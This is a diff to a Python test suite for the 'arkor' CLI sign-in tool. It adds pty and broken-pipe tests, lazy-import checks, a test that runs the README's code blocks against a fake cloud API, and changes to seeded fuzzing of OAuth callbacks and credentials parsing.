+        self.assertFalse(os.path.exists(self.creds))
         self.assertEqual(self.leftovers(), [])
 
-    def test_interrupted_write_leaves_no_temp(self) -> None:
+    @unittest.skipUnless(POSIX and hasattr(__import__("termios"), "TIOCSCTTY"), "needs a pty to be a terminal on")
+    def test_ctrl_c_on_a_terminal_leaves_interrupted_on_a_line_of_its_own(self) -> None:
+        import pty
+
+        master, slave = pty.openpty()
+        proc = subprocess.Popen(
+            [sys.executable, "-I", "-S", "-c", INTERRUPT_CTTY, MODULE, "login", "--oauth", "--no-browser"],
+            stdin=slave,
+            stdout=slave,
+            stderr=slave,
+            env=self.env(NO_COLOR="1"),
+            close_fds=True,
+        )
+        os.close(slave)
+        self.addCleanup(os.close, master)
+        self.addCleanup(lambda: proc.poll() is None and proc.kill())
+        shown = b""
+        typed = False
+        deadline = time.monotonic() + 20  # a guard: only a broken product gets near it
+        while time.monotonic() < deadline:
+            ready, _, _ = select.select([master], [], [], 0.1)
+            if not ready:
+                continue
+            try:
+                chunk = os.read(master, 4096)
+            except OSError:  # EIO: every holder of the terminal has gone
+                break
+            if not chunk:
+                break
+            shown += chunk
+            if not typed and shown.endswith(b"press Enter:\r\n"):  # waiting now, and nothing else to print
+                os.write(master, b"\x03")
+                typed = True
+        self.assertTrue(typed, shown)
+        self.assertEqual(proc.wait(timeout=10), 130)
+        text = shown.decode().replace("\r\n", "\n")
+        self._record(text)
+        head, _, tail = text.partition("press Enter:\n")
+        self.assertTrue(head.startswith("Browser: https://"), text)
+        # The driver echoes ^C where the cursor was (the start of a line
+        # here); Interrupted. still starts a line of its own after it.
+        self.assertEqual(tail, "^C\nInterrupted.\n")
+        self.assertFalse(os.path.exists(self.creds))
+        self.assert_port_closed(self.ports[0])
+
+
+class PipeTest(Case):
+    @unittest.skipUnless(POSIX, "SIGPIPE and pipe buffers as on POSIX")
+    def test_broken_pipe_ends_quietly(self) -> None:
+        # `arkor whoami | head -n 1`: the reader goes away after one line,
+        # with far more still to come than any pipe buffer holds, so a write
+        # is sure to fail. Quiet, and status 1: the output was lost.
         self.sign_in_anon()
-        before = self.creds_bytes()
-        with mock.patch.object(os, "replace", side_effect=KeyboardInterrupt):
-            code, _, err = self.run_main("login", "--anonymous")
-        self.assertEqual((code, err), (130, "Interrupted.\n"))
-        self.assertEqual(self.creds_bytes(), before)
-        self.assertEqual(self.leftovers(), [])
-
-    @unittest.skipUnless(POSIX, "chmod semantics")
-    def test_chmod_refused_is_only_a_warning(self) -> None:
-        real_chmod = os.chmod
-
-        def refuse(path: Any, mode: int, *a: Any, **k: Any) -> None:
-            if str(path).endswith(".tmp"):
-                raise PermissionError(1, "Operation not permitted")
-            real_chmod(path, mode, *a, **k)
-
-        with mock.patch.object(os, "chmod", refuse):
-            code, _out, err = self.run_main("login", "--anonymous")
-        self.assertEqual(code, 0)
-        self.assertRegex(err, r"^Could not restrict the permissions of .*\.tmp: Operation not permitted\.\n$")
-        self.assertEqual(self.read_creds()["mode"], "anon")
-
-    def test_file_written_by_node_is_read(self) -> None:
-        # camelCase fields, "oauth" mode, extra fields and no trailing newline
-        data = dict(self.auth0_creds(mode="oauth"), extra={"x": 1})
-        self.write_creds(json.dumps(data).encode())
-        self.cloud.add_token("access-token-stored", user={"id": "node"}, orgs=[])
-        code, out, _ = self.run_main("whoami")
-        self.assertEqual((code, out), (0, '{\n  "id": "node"\n}\n'))
+        big = {f"field{i}": "v" * 100 for i in range(3000)}  # ~330 KB
+        self.cloud.add_token("anon-token-stored", user=big, orgs=[])
+        proc = self.spawn("whoami")
+        assert proc.stdout is not None and proc.stderr is not None
+        first = proc.stdout.readline()
+        proc.stdout.close()
+        err = proc.stderr.read()
+        proc.stderr.close()
+        self._record(first, err)
+        self.assertEqual((proc.wait(timeout=30), first, err), (1, "{\n", ""))
 
 
-# ---------------------------------------------------------------------------
-# Start-up cost: what is imported when
-# ---------------------------------------------------------------------------
-
-
-class LazyImportTest(unittest.TestCase):
+class LazyImportTest(Case):
     """Start-up stays cheap: what only the network, the browser and the OAuth
     listener need is not imported by ``import arkor_cli``, nor by the commands
     that never go on the network.
 
-    Nothing is timed. Each check runs a fresh interpreter with -I (no PYTHON*
-    variables, no user site-packages) and -S (no site hooks: a .pth file that
-    imports one of these modules first, as one on this machine does with
-    typing, would hide an eager import), and counts only the modules that
-    appeared after the interpreter had started.
+    Nothing is timed. One fresh interpreter, with -I (no PYTHON* variables,
+    no user site-packages) and -S (no site hooks: a .pth file that imports
+    one of these modules first, as one on this machine does with typing,
+    would hide an eager import), imports arkor_cli and runs the commands one
+    after the other through main(), saying after each which of the watched
+    modules have appeared since the interpreter started.
     """
 
-    KEPT_OUT = (
-        "ssl",
-        "urllib.request",
-        "http.server",
-        "http.client",
-        "webbrowser",
-        "email",
-        "secrets",
-        "typing",
-        "shutil",
-    )
+    KEPT_OUT = ("ssl", "urllib.request", "http.client", "http.server", "webbrowser", "secrets", "typing")
 
-    # argv: repo dir, comma-separated module names, then the arkor arguments
-    # ("-" alone: only import). The last line says which of the modules the
-    # import and the command brought in.
+    # argv: the repo dir, the watched modules (comma-separated), then one
+    # command line per argument (words split on spaces).
     RUNNER = (
         "import sys\n"
         "before = set(sys.modules)\n"
-        "here, watched, args = sys.argv[1], sys.argv[2].split(','), sys.argv[3:]\n"
+        "here, watched, runs = sys.argv[1], sys.argv[2].split(','), sys.argv[3:]\n"
         "sys.path.insert(0, here)\n"
+        "def report(name, status):\n"
+        "    new = sorted(m for m in watched if m in sys.modules and m not in before)\n"
+        "    sys.stdout.flush()\n"
+        "    print('\\n@@ %s STATUS:%s LOADED:%s' % (name, status, ','.join(new)), flush=True)\n"
         "import arkor_cli\n"
-        "status = 0 if args == ['-'] else arkor_cli.main(args)\n"
-        "sys.stdout.flush()\n"
-        "new = sorted(m for m in watched if m in sys.modules and m not in before)\n"
-        "print()\n"
-        "print('STATUS:%s LOADED:%s' % (status, ','.join(new)))\n"
+        "report('import', 0)\n"
+        "for run in runs:\n"
+        "    report(run, arkor_cli.main(run.split()))\n"
     )
 
-    def loaded(self, *args: str, watched: tuple[str, ...] = KEPT_OUT, **extra: str) -> tuple[list[str], str]:
-        """The ``watched`` modules that ``arkor <args>`` imported, and its output."""
-        home = tempfile.TemporaryDirectory()
-        self.addCleanup(home.cleanup)
-        env = {"PATH": os.environ.get("PATH", os.defpath), "HOME": home.name, "USERPROFILE": home.name, **extra}
-        cmd = [sys.executable, "-I", "-S", "-c", self.RUNNER, HERE, ",".join(watched), *(args or ("-",))]
-        proc = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=home.name, timeout=60, check=False)
-        self.assertEqual(proc.returncode, 0, proc.stderr)
-        last = proc.stdout.rstrip("\n").rsplit("\n", 1)[-1]
-        self.assertTrue(last.startswith("STATUS:0 LOADED:"), proc.stdout + proc.stderr)
-        modules = last[len("STATUS:0 LOADED:") :]
-        return (modules.split(",") if modules else []), proc.stdout + proc.stderr
-
-    # What the commands that need no file contents and no network do without:
-    # the parser (argparse brings gettext, locale and textwrap with it), and
-    # json with the re it brings.
-    NOT_NEEDED = (*KEPT_OUT, "argparse", "gettext", "json", "re")
-
-    def test_import_alone(self) -> None:
-        modules, _ = self.loaded(watched=self.NOT_NEEDED)
-        self.assertEqual(modules, [])
-
-    def test_help(self) -> None:
-        for argv in (["--help"], ["-h"], ["login", "--help"], ["logout", "-h"], ["whoami", "-h"]):
-            with self.subTest(argv=argv):
-                modules, output = self.loaded(*argv, watched=self.NOT_NEEDED)
-                self.assertIn("usage: arkor", output)
-                self.assertEqual(modules, [])
-
-    def test_logout_with_no_file(self) -> None:
-        modules, output = self.loaded("logout", watched=self.NOT_NEEDED)
-        self.assertIn("No credentials on file.", output)
-        self.assertEqual(modules, [])
-
-    def test_whoami_signed_out(self) -> None:
-        for argv in (["whoami"], ["whoami", "--json"]):
-            with self.subTest(argv=argv):
-                modules, output = self.loaded(*argv, watched=self.NOT_NEEDED)
-                self.assertIn("Not signed in.", output)
-                self.assertEqual(modules, [])
-
-    def test_bare_commands_parse_as_the_parser_would(self) -> None:
-        # The shortcut that skips argparse for the commonest command lines
-        # (`arkor whoami`, `arkor login --anonymous`, ...) must give exactly
-        # what the parser gives.
-        for argv in arkor_cli._BARE_COMMANDS:
-            with self.subTest(argv=argv):
-                self.assertEqual(vars(arkor_cli._bare_args(list(argv))), vars(arkor_cli._parse(list(argv))))
-        self.assertIn(("login", "--anonymous"), arkor_cli._BARE_COMMANDS)
-        for argv in (["login", "--oauth"], ["login", "--anonymous", "--oauth"], [], ["whoami", "whoami"]):
-            self.assertIsNone(arkor_cli._bare_args(argv))
-
-    def test_login_anonymous(self) -> None:
-        # The CI sign-in needs HTTP and the file, not the parser, the
-        # browser, the listener or the OAuth secrets.
-        watched = ("argparse", "gettext", "webbrowser", "http.server", "secrets")
-        with FakeCloudApi() as cloud:
-            modules, output = self.loaded("login", "--anonymous", watched=watched, ARKOR_CLOUD_API_URL=cloud.url)
-        self.assertIn("Signed in anonymously", output)
-        self.assertEqual(modules, [])
-
-    def test_the_check_sees_an_import(self) -> None:
-        # The check itself works: a command line that needs the parser (an
-        # option the shortcut does not know) is seen to load it.
-        modules, output = self.loaded("logout", "--force", watched=self.NOT_NEEDED)
-        self.assertIn("No credentials on file.", output)
-        self.assertIn("argparse", modules)
-
-
-# ---------------------------------------------------------------------------
-# The upgrade command
-# ---------------------------------------------------------------------------
-
-
-class UpgradeCommandTest(unittest.TestCase):
-    def setUp(self) -> None:
-        self.root = tempfile.mkdtemp()
-        self.addCleanup(shutil.rmtree, self.root, True)
-
-    def site_packages_file(self) -> str:
-        site = os.path.join(self.root, "lib", "python3.11", "site-packages")
-        os.makedirs(site)
-        return os.path.join(site, "arkor_cli.py")
-
-    def touch(self, name: str) -> None:
-        open(os.path.join(self.root, name), "w").close()
-
-    def test_pip(self) -> None:
-        fix = arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "/venv/bin/python3")
-        self.assertEqual(fix, "Run `/venv/bin/python3 -m pip install --upgrade arkor-cli`.")
-
-    def test_pip_with_spaces_in_the_interpreter_path(self) -> None:
-        fix = arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "C:\\Program Files\\Python\\python.exe")
-        self.assertEqual(fix, 'Run `"C:\\Program Files\\Python\\python.exe" -m pip install --upgrade arkor-cli`.')
-
-    def test_pipx(self) -> None:
-        self.touch("pipx_metadata.json")
-        self.assertEqual(
-            arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "py"), "Run `pipx upgrade arkor-cli`."
-        )
-
-    def test_uv_tool(self) -> None:
-        self.touch("uv-receipt.toml")
-        self.assertEqual(
-            arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "py"), "Run `uv tool upgrade arkor-cli`."
-        )
-
-    def test_debian_dist_packages(self) -> None:
-        path = os.path.join(self.root, "dist-packages", "arkor_cli.py")
-        self.assertEqual(
-            arkor_cli._upgrade_fix(path, self.root, "/usr/bin/python3"),
-            "Run `/usr/bin/python3 -m pip install --upgrade arkor-cli`.",
-        )
-
-    def test_copied_file(self) -> None:
-        path = os.path.join(self.root, "tools", "arkor_cli.py")
-        self.assertEqual(arkor_cli._upgrade_fix(path, self.root, "py"), f"Replace {path} with the latest arkor_cli.py.")
-
-
-class InstalledCopyTest(Case):
-    """The upgrade hint as a real installed copy in a real venv computes it."""
-
-    def make_venv(self, marker: str | None) -> str:
-        import sysconfig
-        import venv
-
-        root = tempfile.mkdtemp(prefix="arkor-venv-")
-        self.addCleanup(shutil.rmtree, root, True)
-        venv.EnvBuilder(with_pip=False, symlinks=POSIX).create(root)
-        purelib = sysconfig.get_path("purelib", vars={"base": root, "platbase": root})
-        shutil.copy(MODULE, purelib)
-        if marker:
-            open(os.path.join(root, marker), "w").close()
-        bindir = "Scripts" if os.name == "nt" else "bin"
-        return os.path.join(root, bindir, "python.exe" if os.name == "nt" else "python")
-
-    def test_installed_copies(self) -> None:
-        self.sign_in_anon()
-        self.cloud.script("GET", "/v1/me", Answer(426, body=b""))
-        for marker, command in (
-            (None, "{python} -m pip install --upgrade arkor-cli"),
-            ("pipx_metadata.json", "pipx upgrade arkor-cli"),
-            ("uv-receipt.toml", "uv tool upgrade arkor-cli"),
-        ):
-            with self.subTest(marker=marker):
-                python = self.make_venv(marker)
-                proc = subprocess.run(
-                    [python, "-m", "arkor_cli", "whoami"],
-                    capture_output=True,
-                    text=True,
-                    env=self.env(),
-                    cwd=self.home,  # not HERE: the venv's copy must be the one imported
-                    timeout=60,
-                    check=False,
-                )
-                self._record(proc.stdout, proc.stderr)
-                self.assertEqual(proc.returncode, 1)
-                expected = command.format(python=python)
-                self.assertEqual(proc.stderr, f"Arkor SDK is no longer supported by the cloud API. Run `{expected}`.\n")
-
-
-# ---------------------------------------------------------------------------
-# Pipes
-# ---------------------------------------------------------------------------
-
-
-class PipeTest(Case):
-    @unittest.skipUnless(POSIX and shutil.which("head"), "needs a POSIX shell and head")
-    def test_broken_pipe_ends_quietly(self) -> None:
-        self.sign_in_anon()
-        big = {f"field{i}": "v" * 100 for i in range(3000)}  # ~330 KB, beyond any pipe buffer
-        self.cloud.add_token("anon-token-stored", user=big, orgs=[])
+    def test_commands_that_send_nothing_import_no_network_browser_or_typing(self) -> None:
+        runs = ["--help", "logout", "whoami", "whoami --json", "login --anonymous"]
+        cmd = [sys.executable, "-I", "-S", "-c", self.RUNNER, HERE, ",".join(self.KEPT_OUT), *runs]
         proc = subprocess.run(
-            f'"{sys.executable}" "{MODULE}" whoami | head -n 1',
-            shell=True,
-            capture_output=True,
-            text=True,
-            env=self.env(),
-            timeout=30,
-            check=False,
+            cmd, capture_output=True, text=True, env=self.env(), cwd=self.home, timeout=30, check=False
         )
         self._record(proc.stdout, proc.stderr)
-        self.assertEqual(proc.stdout, "{\n")
-        self.assertEqual(proc.stderr, "")
+        self.assertEqual(proc.returncode, 0, proc.stderr)
+        reports = dict(re.findall(r"^@@ (.+?) (STATUS:\d+ LOADED:\S*)$", proc.stdout, re.MULTILINE))
+        self.assertEqual(list(reports), ["import", *runs], proc.stdout + proc.stderr)
+        for run in ("import", "--help", "logout", "whoami", "whoami --json"):
+            with self.subTest(run=run):
+                self.assertEqual(reports[run], "STATUS:0 LOADED:")  # each adds to what came before: none at all
+        self.assertIn("usage: arkor", proc.stdout)
+        self.assertIn("\nNo credentials on file.\n", proc.stdout)
+        self.assertIn("\n" + NOT_SIGNED_IN, proc.stdout)
+        self.assertTrue(proc.stderr.startswith(NOT_SIGNED_IN), proc.stderr)  # whoami --json says it on stderr
+        # The check sees an import: the CI sign-in goes on the network (and
+        # still needs no browser, listener or OAuth secrets).
+        self.assertIn("Signed in anonymously", proc.stdout)
+        status, _, loaded = reports["login --anonymous"].partition(" ")
+        self.assertEqual(status, "STATUS:0")
+        loaded_modules = loaded[len("LOADED:") :].split(",")
+        self.assertIn("http.client", loaded_modules)
+        self.assertIn("urllib.request", loaded_modules)
+        self.assertEqual({"webbrowser", "http.server", "secrets"} & set(loaded_modules), set())
 
 
 # ---------------------------------------------------------------------------
-# Fuzzing
+# The README, the fuzz driver and SECURITY.md
 # ---------------------------------------------------------------------------
+
+
+# The README's lines that are shown but not run by ReadmeTest, each with what runs it instead.
+README_RUN_ELSEWHERE = {
+    "python3 -m unittest": "this suite itself",
+    "pipx install .": ".ci/run: pipx-install (the wheel built from this checkout)",
+    "pip install .": ".ci/run: package-install, package-version, package-whoami",
+    "bash .ci/run": "CI itself",
+}
+
+
+class ReadmeTest(OAuthCase):
+    """The README's code blocks, run in order as a newcomer would run them,
+    against the fake cloud-api and Auth0, in one throwaway HOME, with an
+    ``arkor`` command on PATH that runs this checkout's arkor_cli.py."""
+
+    def blocks(self) -> list[tuple[str, str]]:
+        with open(os.path.join(HERE, "README.md"), encoding="utf-8") as f:
+            text = f.read()
+        return re.findall(r"^```(\w+)\n(.*?)^```$", text, re.MULTILINE | re.DOTALL)
+
+    def workplace(self) -> tuple[str, dict[str, str]]:
+        """A folder holding the checkout's files, and an environment with an
+        ``arkor`` command, the fake's address, its CA and a stand-in browser."""
+        place = os.path.join(self.home, "work")
+        bin_dir = os.path.join(self.home, "bin")
+        os.makedirs(bin_dir)
+        os.makedirs(place)
+        for name in ("arkor_cli.py", "fake_cloud.py", "bench.py", "tests"):
+            os.symlink(os.path.join(HERE, name), os.path.join(place, name))
+        shim = os.path.join(bin_dir, "arkor")
+        with open(shim, "w", encoding="utf-8") as f:
+            f.write(f'#!/bin/sh\nexec "{sys.executable}" "{MODULE}" "$@"\n')
+        os.chmod(shim, 0o755)
+        python = os.path.join(bin_dir, "python3")
+        os.symlink(sys.executable, python)
+        env = self.env(BROWSER=fake_browser(), PATH=bin_dir + os.pathsep + os.environ.get("PATH", os.defpath))
+        return place, env
+
+    @staticmethod
+    def reap(proc: subprocess.Popen[str]) -> None:
+        if proc.poll() is None:
+            proc.kill()
+        proc.wait()
+        for stream in (proc.stdout, proc.stderr):
+            if stream is not None:
+                stream.close()
+
+    def run_block(self, code: str, place: str, env: dict[str, str]) -> str:
+        """Run one block with bash -e; a Browser: line it prints is followed
+        by a stand-in browser, as a person would open it."""
+        import threading
+
+        proc = subprocess.Popen(
+            ["bash", "-e", "-o", "pipefail", "-c", code],
+            cwd=place,
+            env=env,
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        self.addCleanup(self.reap, proc)
+        lines: list[str] = []
+        assert proc.stdout is not None and proc.stderr is not None
+        errors: list[str] = []
+        reader = threading.Thread(target=lambda: errors.append(proc.stderr.read() if proc.stderr else ""))
+        reader.start()
+        for line in proc.stdout:
+            lines.append(line)
+            if line.startswith("Browser: ") and "--no-browser" in code:
+                browse(line[len("Browser: ") :].strip())
+        code_ = proc.wait(timeout=60)
+        reader.join(30)
+        out, err = "".join(lines), "".join(errors)
+        self._record(out, err)
+        self.assertEqual(code_, 0, f"README block failed:\n{code}\nstdout:\n{out}\nstderr:\n{err}")
+        self.assertNotIn("Traceback", err)
+        return out
+
+    def test_every_code_block_runs(self) -> None:
+        place, env = self.workplace()
+        ran = 0
+        skipped: set[str] = set()
+        for language, code in self.blocks():
+            if language == "text":
+                continue  # output shown, not commands
+            with self.subTest(block=code.splitlines()[0]):
+                if language == "python":
+                    proc = subprocess.run(
+                        [sys.executable, "-c", code],
+                        cwd=place,
+                        env=env,
+                        capture_output=True,
+                        text=True,
+                        timeout=60,
+                        check=False,
+                    )
+                    self._record(proc.stdout, proc.stderr)
+                    self.assertEqual((proc.returncode, proc.stderr), (0, ""))
+                    ran += 1
+                    continue
+                self.assertEqual(language, "sh")
+                kept = []
+                for line in code.splitlines():
+                    command = line.split("#", 1)[0].strip()
+                    if command in README_RUN_ELSEWHERE:
+                        skipped.add(command)
+                    elif command == "python3 fake_cloud.py":
+                        self.demo(place, env)
+                    else:
+                        kept.append(line)
+                if kept:
+                    self.run_block("\n".join(kept), place, env)
+                    ran += 1
+        self.assertGreaterEqual(ran, 10)
+        self.assertEqual(skipped, set(README_RUN_ELSEWHERE), "a line run elsewhere is no longer in the README")
+
+    def demo(self, place: str, env: dict[str, str]) -> None:
+        """``python3 fake_cloud.py``, and the lines it prints pasted into
+        another shell, as the README says."""
+        own = {k: v for k, v in env.items() if k not in ("ARKOR_CLOUD_API_URL", "SSL_CERT_FILE", "BROWSER")}
+        server = subprocess.Popen(
+            [sys.executable, "fake_cloud.py"], cwd=place, env=own, stdout=subprocess.PIPE, text=True
+        )
+        self.addCleanup(self.reap, server)
+        assert server.stdout is not None
+        printed = []
+        for line in server.stdout:
+            if line.startswith("Ctrl-C"):
+                break
+            printed.append(line)
+        pasted = [line.strip() for line in printed if line.startswith("  ")]
+        self.assertTrue(any(line.startswith("export ARKOR_CLOUD_API_URL=") for line in pasted), printed)
+        out = self.run_block("\n".join(pasted), place, own)
+        self.assertIn("Signed in anonymously", out)
+        self.assertIn("Signed in\n", out)
+        self.assertIn('"name": "Ada Lovelace"', out)
+        server.send_signal(signal.SIGINT)
+        self.assertEqual(server.wait(timeout=20), 0)
+
+    def test_the_ci_recipe_keeps_one_identity(self) -> None:
+        """Two CI jobs with the same cached ~/.arkor: one sign-in, one identity."""
+        (recipe,) = [code for language, code in self.blocks() if "identity.json" in code]
+        place, env = self.workplace()
+        identities = []
+        for _ in range(2):
+            self.run_block(recipe, place, env)
+            with open(os.path.join(place, "identity.json"), encoding="utf-8") as f:
+                identities.append(json.load(f)["user"]["id"])
+        self.assertEqual(identities[0], identities[1])
+        self.assertEqual(len(self.cloud.seen("POST", "/v1/auth/anonymous")), 1)
+
+
+# Rounds each fuzz method has run, for a look after the run (see FuzzTest._rounds).
+FUZZ_ROUNDS: dict[str, int] = {}
 
 
 class FuzzTest(unittest.TestCase):
-    """Seeded, time-bounded fuzzing of what arkor reads from outside itself:
-    callback queries and requests, credentials files, and HTTP answers.
+    """Seeded, time-bounded fuzzing of what arkor reads from outside itself
+    and of what it prints. Five targets: the callback (queries, pasted
+    addresses, the listener), the credentials file, HTTP answers (garbage
+    servers, ``whoami`` against them), HTTP framing delivered slowly or
+    endlessly, and the printer (text with control and format characters
+    from every source).
 
     ARKOR_FUZZ_SEED picks the inputs (a fixed default, so that every run is
-    the same run) and ARKOR_FUZZ_SECONDS bounds each of the three targets
-    (default 3, shared by the target's methods; CI may give more). A broken
-    invariant fails with the seed, the iteration and the input (the first
-    ARKOR_FUZZ_SHOW characters of its repr, default 300): enough to write the
-    regression test. Standard library only: ``random`` and sockets.
+    the same run) and ARKOR_FUZZ_SECONDS bounds each target (default 0.3 s,
+    shared by the target's methods; CI gives 40 to this class on its own).
+    Each method runs at least its own minimum of rounds whatever the budget,
+    so that a slow machine still tests something and no timing decides the
+    outcome. A broken invariant fails with the seed, the iteration and the
+    input (the first ARKOR_FUZZ_SHOW characters of its repr, default 300):
+    enough to write the regression test. Standard library only: ``random``
+    and sockets.
     """
 
     _SEED = "20251129"
-    _SECONDS = 3.0
-    # A budget that runs fewer rounds than this has tested nothing.
-    _MIN_ITERATIONS = 20
+    _SECONDS = 0.3
     # How much of an input a failure message quotes.
     _SHOWN = 300
 
@@ -3129,23 +5115,19 @@ class FuzzTest(unittest.TestCase):
 
     # -- the driver ---------------------------------------------------------
 
-    def _rounds(self, target: str, share: float) -> Iterator[tuple[int, Any]]:
+    def _rounds(self, target: str, share: float, minimum: int) -> Iterator[tuple[int, Any]]:
         """Iteration numbers, each with its own generator seeded from the run's
         seed, the target and the number (so that an input does not depend on
-        the rounds before it), until ``share`` of the budget is spent; then
-        check that enough rounds ran."""
+        the rounds before it): at least ``minimum`` of them, and more until
+        ``share`` of the budget is spent."""
         import random
 
         deadline = time.monotonic() + self.seconds * share
         rounds = 0
-        while rounds == 0 or time.monotonic() < deadline:
+        while rounds < minimum or time.monotonic() < deadline:
             yield rounds, random.Random(f"{self.seed}/{target}/{rounds}")
             rounds += 1
-        self.assertGreater(
-            rounds,
-            self._MIN_ITERATIONS,
-            f"fuzz {target}: only {rounds} rounds in {self.seconds * share:g} s (ARKOR_FUZZ_SEED={self.seed})",
-        )
+            FUZZ_ROUNDS[target] = rounds
 
     def _failure(
         self, target: str, rounds: int, data: object, what: str, exc: BaseException | None = None
@@ -3320,7 +5302,7 @@ class FuzzTest(unittest.TestCase):
     def test_callback_decide(self) -> None:
         import functools
 
-        for rounds, rng in self._rounds("callback-decide", 0.3):
+        for rounds, rng in self._rounds("callback-decide", 0.3, 40):
             expected = self._state(rng)
             params, shown = self._callback_params(rng, expected)
             later, _ = self._callback_params(rng, expected)
@@ -3376,7 +5358,7 @@ class FuzzTest(unittest.TestCase):
         import io
         import threading
 
-        for rounds, rng in self._rounds("callback-pasted", 0.2):
+        for rounds, rng in self._rounds("callback-pasted", 0.2, 15):
             expected = self._state(rng)
             query = self._query(rng, expected, encode=rng.random() < 0.5)
             line = rng.choice(
@@ -3591,7 +5573,7 @@ class FuzzTest(unittest.TestCase):
             server = arkor_cli._listen([0], callback)
             previous: object = None
             try:
-                for rounds, rng in self._rounds("callback-listener", 0.5):
+                for rounds, rng in self._rounds("callback-listener", 0.5, 15):
                     port = server.server_address[1]
                     raw, mode, expect = self._listener_request(rng, port, expected)
                     shown = {"port": port, "mode": mode, "request": raw}
@@ -3658,19 +5640,49 @@ class FuzzTest(unittest.TestCase):
     # -- target 2: the credentials file ----------------------------------------
 
     @staticmethod
-    def _credential_fields(mode: str) -> dict[str, tuple[type, ...]]:
-        """The shape of each mode, spelled out: the test must fail if it drifts."""
+    def _credential_fields(mode: str) -> dict[str, str]:
+        """The shape of each mode, spelled out (the test must fail if it
+        drifts): each required field and what it must hold."""
         if mode == "anon":
-            return {"token": (str,), "anonymousId": (str,), "arkorCloudApiUrl": (str,), "orgSlug": (str,)}
+            return {"token": "token", "anonymousId": "name", "orgSlug": "name"}
         return {
-            "accessToken": (str,),
-            "refreshToken": (str,),
-            "expiresAt": (int, float),
-            "auth0Domain": (str,),
-            "audience": (str,),
-            "clientId": (str,),
-            "arkorCloudApiUrl": (str,),
+            "accessToken": "token",
+            "refreshToken": "token",
+            "expiresAt": "seconds",
+            "auth0Domain": "host",
+            "audience": "name",
+            "clientId": "name",
         }
+
+    @staticmethod
+    def _holds(kind: str, value: object) -> bool:
+        """Whether ``value`` is what a field of ``kind`` must hold (SPEC §3):
+        a token travels in a header (visible ASCII, no space), a host is bare."""
+        import math
+        from urllib.parse import urlsplit
+
+        if kind == "token":
+            return (
+                isinstance(value, str) and value != "" and value.isascii() and value.isprintable() and " " not in value
+            )
+        if kind == "name":
+            return isinstance(value, str) and value != ""
+        if kind == "seconds":
+            return isinstance(value, (int, float)) and not isinstance(value, bool) and math.isfinite(value)
+        if kind == "host":
+            return (
+                isinstance(value, str)
+                and re.fullmatch(r"([A-Za-z0-9.-]+|\[[0-9A-Fa-f:.]+\])(:[0-9]{1,5})?", value) is not None
+            )
+        assert kind == "url", kind
+        if not isinstance(value, str) or value != value.strip() or not value.isprintable():
+            return False
+        try:
+            parts = urlsplit(value)
+            parts.port  # noqa: B018 - raises ValueError for a bad port
+        except ValueError:
+            return False
+        return parts.scheme.lower() in ("http", "https") and bool(parts.hostname) and "@" not in parts.netloc
 
     def _json_value(self, rng: Any, depth: int = 2) -> object:
         """Any JSON value, scalars weighted: every type, and the odd extremes."""
@@ -3711,10 +5723,20 @@ class FuzzTest(unittest.TestCase):
         if rng.random() < 0.08:
             return self._text(rng, 60) if rng.random() < 0.7 else self._deep(rng)
         mode = rng.choice(("anon", "auth0", "oauth"))
-        fields = self._credential_fields(mode)
         doc: list[tuple[str, object]] = [("mode", mode)]
-        for field, types in fields.items():
-            doc.append((field, int(time.time()) + 3600 if types != (str,) else f"{field}-{rng.randrange(10**6)}"))
+        for field, kind in self._credential_fields(mode).items():
+            if kind == "seconds":
+                value: object = 1_800_000_000 + rng.randrange(10**6)
+            elif kind == "host":
+                value = rng.choice(
+                    ("tenant.example.auth0.com", "127.0.0.1:8443", "[::1]:443", f"{field}-{rng.randrange(99)}")
+                )
+            else:
+                value = f"{field}-{rng.randrange(10**6)}"
+            doc.append((field, value))
+        if rng.random() < 0.7:  # optional in both modes
+            url = rng.choice(("https://api.arkor.ai", "http://127.0.0.1:8787", "https://[::1]:8443/base/"))
+            doc.insert(rng.randrange(1, len(doc) + 1), ("arkorCloudApiUrl", url))
         for _ in range(rng.choice((0, 0, 1, 2, rng.randint(0, 6)))):
             doc.insert(rng.randrange(len(doc) + 1), (self._text(rng, 6), self._json_value(rng)))
         raw_values: dict[int, str] = {}
@@ -3772,35 +5794,37 @@ class FuzzTest(unittest.TestCase):
         if not isinstance(result, dict):
             raise fail(f"returned {type(result).__name__}, not a dict")
         mode = result.get("mode")
-        if mode not in ("anon", "auth0"):
+        if mode not in ("anon", "auth0", "oauth"):
             raise fail(f"returned mode {mode!r}")
-        for field, types in self._credential_fields(mode).items():
-            value = result.get(field)
-            if isinstance(value, bool) or not isinstance(value, types):
-                raise fail(f"returned {field}={value!r:.80}, not {' or '.join(t.__name__ for t in types)}")
+        fields = dict(self._credential_fields(mode), arkorCloudApiUrl="url")
+        for field, kind in fields.items():
+            if field == "arkorCloudApiUrl" and field not in result:
+                continue  # optional in both modes: absent, never null or empty
+            if not self._holds(kind, result.get(field)):
+                raise fail(f"returned {field}={result.get(field)!r:.80}, which is no {kind}")
 
     def test_credentials_text(self) -> None:
         import functools
 
         path = os.path.join(tempfile.gettempdir(), "arkor-fuzz", ".arkor", "credentials.json")
-        for rounds, rng in self._rounds("credentials-text", 0.5):
-            text = self._credentials_text(rng)
+        for rounds, rng in self._rounds("credentials-text", 0.5, 60):
+            raw = self._credentials_text(rng).encode("utf-8", "surrogatepass")
 
-            fail = functools.partial(self._failure, "credentials-text", rounds, text)
+            fail = functools.partial(self._failure, "credentials-text", rounds, raw)
 
             try:
-                result = arkor_cli._parse_credentials(text, path)
+                result = arkor_cli._parse_credentials(raw, path)
             except arkor_cli.ArkorError as exc:
-                if not exc.message.startswith(path):
+                if not exc.message.startswith(f"{path} does not hold valid arkor credentials ("):
                     raise fail(f"the error does not start with the path: {exc.message!r:.200}") from None
                 continue
             except Exception as exc:  # noqa: BLE001 - any other exception is the finding
                 raise fail(f"_parse_credentials raised {type(exc).__name__}", exc) from None
             self._check_credentials(result, fail)
-            # Parsed, so json parses it too: "oauth" (newer Node releases) reads as "auth0".
-            written = json.loads(text).get("mode")
-            if {"anon": "anon", "auth0": "auth0", "oauth": "auth0"}.get(written) != result["mode"]:
-                raise fail(f"mode {written!r} was read as {result['mode']!r}")
+            # Parsed, so json parses it too (a leading BOM aside), and the mode is kept as written.
